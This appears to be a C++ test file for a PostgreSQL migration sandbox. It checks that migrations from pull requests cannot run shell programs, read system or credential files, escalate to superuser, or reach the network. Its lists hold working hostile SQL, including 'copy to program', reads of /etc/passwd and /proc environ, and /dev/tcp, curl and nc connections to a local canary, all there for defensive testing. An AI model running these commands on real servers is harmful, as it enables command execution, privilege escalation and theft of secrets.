// SPDX-License-Identifier: Apache-2.0
// What a migration in a pull request may try against the machine. Each must be refused to the migration's role; and
// what a superuser may do must not reach the network or the job's secrets.
#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <catch2/catch_test_macros.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "runner/keeper.h"
#include "runner/rehearsal.h"
#include "runner/server.h"
#include "tests/runner/sets.h"

using namespace pgrehearse;

namespace {

constexpr const char* attacks[] = {
    // programs of the machine
    "copy (select 1) to program 'id'",
    "create table x (a text); copy x from program 'id'",
    "do $$ begin execute 'copy (select 1) to program ''id'''; end $$",
    "create function run() returns void security definer language plpgsql as $$ begin copy (select 1) to program 'id'; "
    "end $$; select run()",
    "create role r in role pg_execute_server_program; grant r to current_user; set role r; copy (select 1) to program "
    "'id'",
    "grant pg_execute_server_program to current_user",
    "create role pg_execute_server_program",
    "load '/dev/shm/attack.so'",
    "set local_preload_libraries = '/dev/shm/x'; load 'x'",
    "set session_preload_libraries = 'x'",
    "set dynamic_library_path = '/tmp'",
    "alter database rehearsal set session_preload_libraries = 'x'",
    "alter role current_user set session_preload_libraries = 'x'",
    "alter system set shared_preload_libraries = 'x'",
    "alter system set archive_command = 'id'",
    "create function f() returns int language c as '/dev/shm/attack.so', 'f'",
    "create function f() returns int language c as '$libdir/plpgsql', 'plpgsql_call_handler'",
    "create function f() returns int language internal as 'numeric_in'",
    "create extension plpython3u",
    "create extension plperlu",
    "create trusted language x handler plpgsql_call_handler",
    "create access method m type index handler bthandler",
    "create event trigger e on ddl_command_start execute function pg_catalog.suppress_redundant_updates_trigger()",
    "create function e() returns event_trigger language plpgsql as 'begin end'; create event trigger e on "
    "ddl_command_start execute function e()",
    // files outside the data directory, and in it
    "copy (select 1) to '/dev/shm/attack'",
    "copy (select 1) to '/tmp/attack'",
    "copy (select 1) to 'pg_hba.conf'",
    "create table x (a text); copy x from '/etc/passwd'",
    "create table x (a text); copy x from '/proc/self/environ'",
    "grant pg_write_server_files to current_user",
    "grant pg_read_server_files to current_user",
    "create role r in role pg_write_server_files",
    "select pg_read_file('/etc/passwd')",
    "select pg_read_binary_file('PG_VERSION')",
    "select pg_ls_dir('/')",
    "select pg_ls_dir('.')",
    "select pg_stat_file('/etc/passwd')",
    "select pg_file_write('x', 'y', false)",
    "select pg_hba_file_rules()",
    "select * from pg_file_settings",
    "select lo_import('/etc/passwd')",
    "select lo_export(lo_create(0), '/dev/shm/attack')",
    "create tablespace s location '/dev/shm'",
    "create extension file_fdw",
    "create extension adminpack",
    "create text search dictionary d (template = ispell, dictfile = '../../../../etc/passwd', afffile = 'x')",
    "create foreign data wrapper w",
    "set log_statement = 'all'",
    "select pg_rotate_logfile()",
    // another role
    "set role pgrehearse_admin",
    "set session authorization pgrehearse_admin",
    "grant pgrehearse_admin to current_user",
    "alter role pgrehearse_admin nologin",
    "alter role pgrehearse_admin password 'x'",
    "alter role current_user superuser",
    "alter role postgres superuser",
    "create role s superuser",
    "create role s; alter role s superuser",
    "update pg_authid set rolsuper = true",
    "select rolpassword from pg_authid",
    "update pg_catalog.pg_class set relname = 'x' where relname = 'pg_class'",
    "set allow_system_table_mods = on",
    "reassign owned by pgrehearse_admin to current_user",
    "drop owned by pgrehearse_admin",
    "create function f() returns int language sql as 'select 1'; alter function f() owner to pgrehearse_admin",
    "create view v as select 1; alter view v owner to pgrehearse_admin",
    "set session_replication_role = replica",
    "select pg_terminate_backend(pid) from pg_stat_activity where usename = 'pgrehearse_admin'; select 1/0",
    "select pg_cancel_backend(pid) from pg_stat_activity where usename = 'pgrehearse_admin'; select 1/0",
    "create function pg_catalog.f() returns int language sql as 'select 1'",
    "create cast (int as text) with inout as implicit",
    "create operator class o for type int using btree as operator 1 <",
    // other databases and the server as a whole
    "drop database rehearsal",
    "drop database template1",
    "alter database template1 owner to current_user",
    "alter database template1 rename to x",
    "comment on database template1 is 'x'",
    "create database x template template1 tablespace pg_global",
    "alter system set listen_addresses = '*'",
    "select pg_reload_conf()",
    "select pg_switch_wal()",
    "select pg_create_restore_point('x')",
    "select pg_promote()",
    "select pg_create_physical_replication_slot('x'), pg_drop_replication_slot('x'), 1/0",
    "create publication p for all tables",
    "set temp_file_limit = -1",
};

/// Ways out over the network; %d is the port of a listener on this machine. As a superuser some of them run, and must
/// arrive nowhere.
constexpr const char* ways_out[] = {
    "create extension dblink; select dblink_connect('host=127.0.0.1 port=%d connect_timeout=2')",
    "create extension postgres_fdw; create server s foreign data wrapper postgres_fdw options (host '127.0.0.1', port "
    "'%d'); create user mapping for current_user server s; create foreign table f (a int) server s; select * from f",
    "create subscription s connection 'host=127.0.0.1 port=%d connect_timeout=2' publication p",
    "create subscription s connection 'host=localhost port=%d connect_timeout=2' publication p with (create_slot = "
    "false)",
    "copy (select 1) to program 'exec 3<>/dev/tcp/127.0.0.1/%d'",
    "copy (select 1) to program 'bash -c \"echo x > /dev/tcp/127.0.0.1/%d\"'",
    "copy (select 1) to program 'curl -s -m 2 http://127.0.0.1:%d/'",
    "copy (select 1) to program 'wget -q -T 2 -O - http://127.0.0.1:%d/'",
    "copy (select 1) to program 'nc -w 2 127.0.0.1 %d'",
    "copy (select 1) to program 'perl -MIO::Socket -e \"IO::Socket::INET->new(qq(127.0.0.1:%d))\"'",
    "copy (select 1) to program 'python3 -c \"import socket; socket.create_connection((chr(49)+chr(50)+chr(55)+"
    "chr(46)+chr(48)+chr(46)+chr(48)+chr(46)+chr(49), %d), 2)\"'",
    "create table x (a text); copy x from program 'bash -c \"cat < /dev/tcp/127.0.0.1/%d\"'",
    "alter system set primary_conninfo = 'host=127.0.0.1 port=%d'; select pg_reload_conf()",
};

class Canary {
 public:
  Canary() : socket_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(bind(socket_, reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(listen(socket_, 16) == 0);
    REQUIRE(getsockname(socket_, reinterpret_cast<sockaddr*>(&address), &size) == 0);
    port_ = ntohs(address.sin_port);
  }
  ~Canary() { close(socket_); }
  Canary(const Canary&) = delete;
  Canary& operator=(const Canary&) = delete;

  int port() const { return port_; }
  bool heard() const {
    pollfd wait{socket_, POLLIN, 0};
    return poll(&wait, 1, 0) > 0;
  }

 private:
  int socket_;
  int port_ = 0;
};

std::string with_port(std::string sql, int port) {
  size_t at = sql.find("%d");
  return sql.replace(at, 2, std::to_string(port));
}

/// Ends of a test's environment, which is a job's: 50 secrets.
class Markers {
 public:
  static constexpr int count = 50;
  Markers() {
    for (int i = 0; i < count; ++i)
      setenv(("PGREHEARSE_TEST_MARKER_" + std::to_string(i)).c_str(), value(i).c_str(), 1);
  }
  ~Markers() {
    for (int i = 0; i < count; ++i) unsetenv(("PGREHEARSE_TEST_MARKER_" + std::to_string(i)).c_str());
  }
  static std::string value(int i) { return "a-secret-of-the-job-" + std::to_string(i * 7919); }
  static bool in(std::string_view text) {
    return text.find("a-secret-of-the-job") != text.npos || text.find("PGREHEARSE_TEST_MARKER") != text.npos;
  }
};

}  // namespace

TEST_CASE("the migration's role cannot reach the machine", "[server]") {
  static_assert(std::size(attacks) >= 60);
  for (bool isolate : {true, false}) {
    ServerOptions options;
    options.isolate = isolate;
    auto server = start_server(options);
    if (!server) FAIL(server.error().message);
    auto observer = (*server)->connect_observer();
    REQUIRE(observer);
    for (const char* attack : attacks) {
      INFO(attack);
      auto session = (*server)->connect_migration();
      REQUIRE(session);
      auto answer = session->run(attack);
      CHECK_FALSE(answer);
      if (!answer) CHECK(answer.error().sqlstate != "42601");  // it is refused, not misspelt
      CHECK(observer->run("select 1"));
    }
    auto roles = observer->run("select count(*) from pg_roles where rolsuper");
    REQUIRE(roles);
    CHECK(roles->at(0, 0) == "1");
    for (const char* file : {"/dev/shm/attack", "/tmp/attack"}) CHECK_FALSE(std::filesystem::exists(file));
  }
}

TEST_CASE("no way leads out into the network", "[server]") {
  static_assert(std::size(ways_out) >= 10);
  Canary canary;
  for (int mode = 0; mode < 4; ++mode) {
    bool superuser = mode % 2 == 1;
    ServerOptions options;
    options.superuser = superuser;
    options.isolate = mode < 2;
    if (superuser && !options.isolate && !can_jail()) SKIP("this system has no filters of system calls");
    auto server = start_server(options);
    if (!server) FAIL(server.error().message);
    for (const char* way : ways_out) {
      INFO(way << ", superuser " << superuser << ", isolated " << options.isolate);
      auto session = (*server)->connect_migration();
      REQUIRE(session);
      session->set_deadline(Clock::now() + std::chrono::seconds(20));
      auto answer = session->run(with_port(way, canary.port()));
      if (!superuser) CHECK_FALSE(answer);
      CHECK_FALSE(canary.heard());
    }
  }
}

TEST_CASE("nothing of the tool's environment reaches the server", "[server]") {
  Markers markers;
  ServerOptions options;
  options.superuser = true;
  auto server = start_server(options);
  REQUIRE(server);
  bool isolated = (*server)->notes().empty();
  for (const char* sql :
       {"select pg_read_file('/proc/self/environ')", "select pg_read_file('/proc/1/environ')",
        "create table e (line text); copy e from program 'env'; select string_agg(line, ' ') from e",
        "create table p (line text); copy p from program 'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | "
        "tr ''\\000'' '' '' | tr -d ''\\\\'''; select string_agg(line, ' ') from p",
        "select string_agg(name || setting, ' ') from pg_settings",
        "create table f (line text); copy f from program 'cat log ../log postmaster.opts ../*.log 2>/dev/null; true'; "
        "select string_agg(line, ' ') from f"}) {
    INFO(sql);
    auto session = (*server)->connect_migration();
    REQUIRE(session);
    auto rows = session->run(sql);
    if (rows && rows->size() > 0) CHECK_FALSE(Markers::in(rows->at(0, 0)));
    if (!rows) CHECK_FALSE(Markers::in(rows.error().one_line() + rows.error().detail));
  }
  if (!isolated) return;
  // A process of its own number 1 is the keeper; nobody else's is to be seen.
  auto session = (*server)->connect_migration();
  REQUIRE(session);
  auto seen = session->run("select pg_ls_dir('/proc') = '" + std::to_string(getpid()) + "' order by 1 desc limit 1");
  REQUIRE(seen);
  CHECK(seen->at(0, 0) == "f");
}

TEST_CASE("nothing of the tool's environment reaches a report", "[server]") {
  Markers markers;
  auto set = set_of({{"do $$ begin raise exception '% % %', current_setting('data_directory', true), "
                      "current_setting('application_name'), (select string_agg(name || setting, '') from pg_settings); "
                      "end $$;",
                      {}},
                     {"copy (select 1) to program 'env';", {}},
                     {"create table a (id int);\ncomment on table a is 'x';", "drop table a;"}});
  auto result = rehearse(set, {}, [](const auto&) { return 0U; });
  REQUIRE(result);
  std::string all = result->server_version;
  for (const std::string& note : result->notes) all += note;
  for (const MigrationReport& migration : result->migrations) {
    for (const Outcome& each : migration.outcomes) all += each.reason + each.detail + each.difference;
  }
  CHECK(all.size() > 500);
  CHECK_FALSE(Markers::in(all));
}
